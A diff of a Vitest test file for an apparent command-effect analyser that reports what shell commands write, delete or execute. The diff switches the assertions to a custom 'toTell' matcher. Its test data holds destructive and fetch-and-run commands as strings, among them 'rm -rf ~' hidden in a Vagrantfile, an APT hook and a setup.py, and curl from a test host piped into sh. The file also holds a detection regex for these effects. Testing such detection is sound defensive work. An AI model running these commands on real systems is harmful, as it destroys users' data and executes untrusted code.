@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { told } from './told.js';
-import { linesOf } from './written-world.js';
+import { runAmong } from './written-world.js';
 
 const PROFILE = 'write /home/u/.profile';
 const HOME_GONE = 'delete -r /home/u';
@@ -32,7 +31,7 @@ describe('what code writes, loads and connects to', () => {
     ['cd "$(mktemp -d)" && echo \'system("rm -rf ~")\' > Vagrantfile && vagrant status', HOME_GONE],
     ['A=$(mktemp); B=$(mktemp); curl -so $A https://x.test/a; echo ls > $B; sh $A', 'execute host:https://x.test/a'],
   ])('%s', async (command, expected) => {
-    expect(await told(command)).toContain(expected);
+    await expect(command).toTell(expected);
   });
 
   it.each([
@@ -48,7 +47,7 @@ describe('what code writes, loads and connects to', () => {
     'A=$(mktemp); B=$(mktemp); curl -so $A https://x.test/a; echo ls > $B; sh $B',
     'cd "$(mktemp -d)" && git init -q && touch a && rm -rf *',
   ])('not in %s', async (command) => {
-    expect((await told(command)).filter((line) => /^(?:delete -r? ?\/home|write \/home\/u\/\.|execute (?:host|hidden))/.test(line))).toEqual([]);
+    await expect(command).not.toTell(/^(?:delete -r? ?\/home|write \/home\/u\/\.|execute (?:host|hidden))/);
   });
 
   it.each([
@@ -56,6 +55,6 @@ describe('what code writes, loads and connects to', () => {
     ['apt-get -c a.conf install jq', { 'a.conf': 'APT::Update::Pre-Invoke {"rm -rf ~";};\n' }],
     ['easy_install ./pkg', { 'pkg/setup.py': 'import os\nos.system("rm -rf ~")\n' }],
   ])('%s, written before', async (command, files) => {
-    expect(await linesOf(command, files)).toContain(HOME_GONE);
+    await expect(runAmong(command, files)).toTell(HOME_GONE);
   });
 });
